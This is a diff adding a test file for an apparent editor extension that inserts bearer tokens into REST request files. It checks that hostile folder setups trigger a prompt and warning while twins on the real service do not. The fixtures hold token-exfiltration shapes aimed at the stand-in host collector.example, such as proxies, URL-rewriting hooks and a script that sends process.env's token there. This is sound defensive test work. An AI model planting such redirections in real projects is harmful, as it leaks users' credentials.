@@ -1,0 +1,186 @@
+// The shapes of issue 41's review, each beside its twin on the service (a table, on real folders): the hostile
+// one asks before Insert writes the token and keeps the warning on Send; the twin inserts with no question and
+// is not warned. The folder is read as the extension reads it (platform/folderEnvironments.ts), the file by
+// the allow-list (core/restFile/requestShape.ts), the variables by httpYac's scope.
+import * as assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { withEnvironments } from '../../src/core/restFile/environments';
+import { findJwts } from '../../src/core/restFile/jwtScan';
+import { isSameSite, requestDestinations, requestTarget, targetHosts, variableReadings } from '../../src/core/restFile/requestHost';
+import { parseRestFile } from '../../src/core/restFile/requestParser';
+import { globalNames, outsideAllowList } from '../../src/core/restFile/requestShape';
+import { foreignSends, requestsReached } from '../../src/core/restFile/tokenReach';
+import { readFolderEnvironments } from '../../src/platform/folderEnvironments';
+import { CORPUS, corpusFiles } from './corpus';
+
+const SERVICE = 'https://user.telematicssdk.com';
+const TOKEN = `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.${Buffer.from('{"sub":"u","exp":4102444800}').toString('base64url')}.c2ln`;
+const ACCOUNT = { accountId: 'user', accessToken: TOKEN, expiresAt: 4102444800000, serviceUrl: SERVICE };
+const READ = 'Authorization: Bearer {{$processEnv TELEMATICS_TOKEN}}';
+
+interface Folder {
+	/** Files by path under the workspace folder; `=> target` makes a link. */
+	files: Record<string, string>;
+	/** The REST file's path under the workspace folder. */
+	at?: string;
+	/** Its text. */
+	text: string;
+}
+
+/** What Insert (header style, cursor on the first request) and the warnings would do with `folder`. */
+async function judge(folder: Folder, service = SERVICE): Promise<{ asks: boolean; warns: boolean }> {
+	const root = fs.mkdtempSync(path.join(os.tmpdir(), 'shapes-'));
+	try {
+		for (const [name, content] of Object.entries(folder.files)) {
+			const file = path.join(root, name);
+			fs.mkdirSync(path.dirname(file), { recursive: true });
+			if (content.startsWith('=> ')) fs.symlinkSync(content.slice(3), file);
+			else fs.writeFileSync(file, content);
+		}
+		const httpFile = path.join(root, folder.at ?? 'requests.http');
+		fs.mkdirSync(path.dirname(httpFile), { recursive: true });
+		fs.writeFileSync(httpFile, folder.text);
+		const { environments, outside } = await readFolderEnvironments(httpFile, root);
+		const file = parseRestFile(folder.text);
+		const variables = withEnvironments(variableReadings(file), environments, globalNames(file));
+		const destinations = requestDestinations(file, requestsReached(file, { requests: [file.requests[0]!] }), variables, outside);
+		let asks = destinations.length === 0;
+		for (const { host } of destinations) asks = asks || host === undefined || !(await isSameSite(host, service));
+		const sends = await foreignSends(folder.text, [{ ...ACCOUNT, serviceUrl: service }], [{ name: 'TELEMATICS_TOKEN', accountId: 'user' }], { file, jwts: findJwts(folder.text, file), variables, ...(outside !== undefined && { outside }) });
+		return { asks, warns: sends.length > 0 };
+	} finally {
+		fs.rmSync(root, { recursive: true, force: true });
+	}
+}
+
+const request = (target: string, ...before: string[]) => [...before, `GET ${target}`, READ, ''].join('\n');
+const many = (count: number, size: number) => Object.fromEntries(Array.from({ length: count }, (_, i) => [`.env.e${i}`, Array.from({ length: size }, (_, j) => `v${j}=https://h${j}.example`).join('\n')]));
+
+/** Each row: the shape, the hostile folder, its twin on the service. */
+const rows: Array<[string, Folder, Folder]> = [
+	['variable scope: a definition in request 2 does not hide the .env value request 1 uses',
+		{ files: { '.env': 'host=https://collector.example\n' }, text: `${request('{{host}}/v1/a')}\n###\n@host = ${SERVICE}\n${request('{{host}}/v1/b')}` },
+		{ files: { '.env': `host=${SERVICE}\n` }, text: `${request('{{host}}/v1/a')}\n###\n@host = ${SERVICE}\n${request('{{host}}/v1/b')}` }],
+	['.env: dotenv\'s KEY: value form, the last one winning',
+		{ files: { '.env': `host=${SERVICE}\nhost: https://collector.example\n` }, text: request('{{host}}/v1') },
+		{ files: { '.env': `host=${SERVICE}\nhost: ${SERVICE}\n` }, text: request('{{host}}/v1') }],
+	['.env: a quote that never closes does not hide the other lines',
+		{ files: { '.env': `x="open\nhost=https://collector.example\n` }, text: request('{{host}}/v1') },
+		{ files: { '.env': `x="open\nhost=${SERVICE}\n` }, text: request('{{host}}/v1') }],
+	['.env: quotes and export',
+		{ files: { '.env': 'export host=\'https://collector.example\'\n' }, text: request('{{host}}/v1') },
+		{ files: { '.env': `export host='${SERVICE}'\n` }, text: request('{{host}}/v1') }],
+	['an env/ folder beside a folder on the way (httpYac reads it over the folder\'s .env)',
+		{ files: { '.env': `host=${SERVICE}\n`, 'api/env/.env': 'host=https://collector.example\n' }, at: 'api/requests.http', text: request('{{host}}/v1') },
+		{ files: { '.env': `host=${SERVICE}\n`, 'api/env/.env': `host=${SERVICE}\n` }, at: 'api/requests.http', text: request('{{host}}/v1') }],
+	['a nested .httpyac.json with envDirName',
+		{ files: { 'api/.httpyac.json': '{"envDirName": "../secrets"}' }, at: 'api/requests.http', text: request(`${SERVICE}/v1`) },
+		{ files: { 'api/.httpyac.json': `{"environments": {"prod": {"host": "${SERVICE}"}}}` }, at: 'api/requests.http', text: request('{{host}}/v1') }],
+	['a .httpyac.json with a proxy',
+		{ files: { '.httpyac.json': '{"proxy": "http://collector.example:3128"}' }, text: request(`${SERVICE}/v1`) },
+		{ files: { '.httpyac.json': '{"log": {"level": 1}}' }, text: request(`${SERVICE}/v1`) }],
+	['an httpYac configuration that is code',
+		{ files: { 'httpyac.config.js': 'module.exports = {};' }, text: request(`${SERVICE}/v1`) },
+		{ files: { 'config.js': 'module.exports = {};' }, text: request(`${SERVICE}/v1`) }],
+	['a nested package.json with an httpyac section',
+		{ files: { 'api/package.json': '{"httpyac": {"envDirName": "x"}}' }, at: 'api/requests.http', text: request(`${SERVICE}/v1`) },
+		{ files: { 'api/package.json': '{"name": "api"}' }, at: 'api/requests.http', text: request(`${SERVICE}/v1`) }],
+	['a package.json with an httpYac plugin',
+		{ files: { 'package.json': '{"devDependencies": {"httpyac-plugin-evil": "1"}}' }, text: request(`${SERVICE}/v1`) },
+		{ files: { 'package.json': '{"devDependencies": {"httpyac": "6"}}' }, text: request(`${SERVICE}/v1`) }],
+	['an environment file that is a link',
+		{ files: { '.env': '=> /etc/hostname' }, text: request(`${SERVICE}/v1`) },
+		{ files: { '.env': 'other=1\n' }, text: request(`${SERVICE}/v1`) }],
+	['a request option in an environment (request_proxy)',
+		{ files: { '.env': 'request_proxy=http://collector.example:3128\n' }, text: request(`${SERVICE}/v1`) },
+		{ files: { '.env': 'proxy_note=http://collector.example:3128\n' }, text: request(`${SERVICE}/v1`) }],
+	['a request option in the file (@request_rejectUnauthorized)',
+		{ files: {}, text: request(`${SERVICE}/v1`, '@request_rejectUnauthorized = false') },
+		{ files: {}, text: request(`${SERVICE}/v1`, '@requestId = 7') }],
+	['# @import',
+		{ files: { 'other.http': `@host = https://collector.example\n` }, text: request('{{host}}/v1', '# @import ./other.http', `@host = ${SERVICE}`) },
+		{ files: { 'other.http': `@host = https://collector.example\n` }, text: request('{{host}}/v1', `@host = ${SERVICE}`) }],
+	['a global script block that sets the host',
+		{ files: {}, text: `{{\n  exports.host = 'https://collector.example';\n}}\n\n###\n${request('{{host}}/v1')}` },
+		{ files: {}, text: `@host = ${SERVICE}\n\n###\n${request('{{host}}/v1')}` }],
+	['# @proxy and # @noRejectUnauthorized on a request to the service',
+		{ files: {}, text: request(`${SERVICE}/v1`, '# @proxy http://collector.example:3128', '# @noRejectUnauthorized') },
+		{ files: {}, text: request(`${SERVICE}/v1`, '# @name trips', '# @note check the trips', '# @no-log') }],
+	['a request hook that rewrites the URL',
+		{ files: {}, text: `{{@request\n  request.url = 'https://collector.example/';\n}}\n\n###\n${request(`${SERVICE}/v1`)}` },
+		{ files: {}, text: `# setup\n\n###\n${request(`${SERVICE}/v1`)}` }],
+	['a global script builds the header from process.env and spreads it into a request',
+		{ files: {}, text: `{{\n  exports.auth = { Authorization: 'Bearer ' + process.env['TELEMATICS' + '_TOKEN'] };\n}}\n\n###\nGET https://collector.example/v1\n...auth\n` },
+		{ files: {}, text: `###\n${request(`${SERVICE}/v1`)}` }],
+	['metadata no client is known to leave harmless',
+		{ files: {}, text: request(`${SERVICE}/v1`, '# @loop for 2') },
+		{ files: {}, text: request(`${SERVICE}/v1`, '# @timeout 5000') }],
+	['an expression in the target',
+		{ files: {}, text: request("{{ 'https://' + 'collector.example' }}/v1") },
+		{ files: {}, text: request(`${SERVICE}/v1/{{$guid}}`) }],
+	['http on another port of the service\'s host',
+		{ files: {}, text: request('http://user.telematicssdk.com:8080/v1') },
+		{ files: {}, text: request('https://user.telematicssdk.com/v1') }],
+	['http to any host of the service\'s site',
+		{ files: {}, text: request('http://api.telematicssdk.com/v1') },
+		{ files: {}, text: request('https://api.telematicssdk.com/v1') }],
+	['https on another port of the site',
+		{ files: {}, text: request('https://api.telematicssdk.com:8443/v1') },
+		{ files: {}, text: request('https://api.telematicssdk.com:443/v1') }],
+	['a definition a client reads another way (httpYac: @host value, no =)',
+		{ files: {}, text: request('{{host}}/v1', `@host = ${SERVICE}`, '@host https://collector.example') },
+		{ files: {}, text: request('{{host}}/v1', `@host = ${SERVICE}`) }],
+	['cost: 64 env files near their bound say nothing past the cap',
+		{ files: many(64, 512), at: 'requests.http', text: request(`${SERVICE}/v1`) },
+		{ files: many(2, 16), at: 'requests.http', text: request(`${SERVICE}/v1`) }],
+	['a file deeper below the workspace folder than the check looks',
+		{ files: {}, at: 'a/b/c/d/e/f/g/h/i/requests.http', text: request(`${SERVICE}/v1`) },
+		{ files: {}, at: 'a/b/c/d/e/f/g/requests.http', text: request(`${SERVICE}/v1`) }],
+];
+
+describe('the shapes of the review and their twins on the service (issue 41)', function () {
+	this.timeout(60_000);
+	for (const [name, hostile, twin] of rows) {
+		it(`${name}: the hostile folder asks and warns`, async () => assert.deepEqual(await judge(hostile), { asks: true, warns: true }));
+		it(`${name}: its twin inserts with no question and no warning`, async () => assert.deepEqual(await judge(twin), { asks: false, warns: false }));
+	}
+});
+
+describe('ordinary files get no new question (issue 41)', () => {
+	it('the README\'s example of two accounts in one file', async () => {
+		const text = '### my trips, as the user\nGET https://user.telematicssdk.com/v1/...\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN_USER}}\n\n### the instance\'s statistics, as the admin\nGET https://user.telematicssdk.com/v1/...\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN_ADMIN}}\n';
+		assert.deepEqual(await judge({ files: {}, text }), { asks: false, warns: false });
+	});
+
+	it('the walkthrough\'s sample (features/walkthrough/demo.ts, sampleText), on the service and on the demo service over loopback', async () => {
+		const sample = (url: string) => `# A first request with a live token (Telematics Auth sample).\n# Put the cursor on the GET line and run "Telematics: Insert Authorization Header",\n# then send it with your REST client.\n@baseUrl = ${url}\n\n###\n# Who the token belongs to (an endpoint of the built-in demo service).\nGET {{baseUrl}}/v1/Me\nAccept: application/json\n`;
+		assert.ok(fs.readFileSync(path.join(__dirname, '..', '..', '..', 'src', 'features', 'walkthrough', 'demo.ts'), 'utf8').includes("'# Who the token belongs to (an endpoint of the built-in demo service).',"), 'the sample is the one the walkthrough writes');
+		assert.deepEqual(await judge({ files: {}, text: sample(SERVICE) }), { asks: false, warns: false });
+		assert.deepEqual(await judge({ files: { '.env': 'OTHER=1\n' }, text: sample('http://127.0.0.1:4000') }, 'http://127.0.0.1:4000'), { asks: false, warns: false });
+	});
+
+	it('the corpus: a file inside the allow-list is read as before, request by request; the others hold a script, an import, metadata or an expression', () => {
+		const reasons = new Map<string, number>();
+		let inside = 0;
+		for (const name of corpusFiles()) {
+			const file = parseRestFile(fs.readFileSync(path.join(CORPUS, name), 'utf8'));
+			const why = outsideAllowList(file);
+			if (why) {
+				const reason = why.replace(/^line \d+: /, '').replace(/ \(.*\)$|@.*$/, '@…');
+				reasons.set(reason, (reasons.get(reason) ?? 0) + 1);
+				continue;
+			}
+			inside++;
+			const variables = variableReadings(file);
+			for (const request of file.requests) {
+				const hostHeader = request.headers.find((h) => h.name.toLowerCase() === 'host')?.value;
+				assert.deepEqual(requestDestinations(file, [request], variables).map((d) => d.host), targetHosts(requestTarget(file, request), variables, hostHeader), `${name}:${request.requestLine + 1}`);
+			}
+		}
+		assert.ok(inside >= 65, `${inside} files inside the allow-list`);
+		for (const reason of reasons.keys()) assert.match(reason, /script|metadata|expression|definition|line no client reads alike/);
+		console.log(`      ${inside} of ${corpusFiles().length} corpus files inside the allow-list; outside: ${[...reasons].map(([r, n]) => `${r} ${n}`).join(', ')}`);
+	});
+});
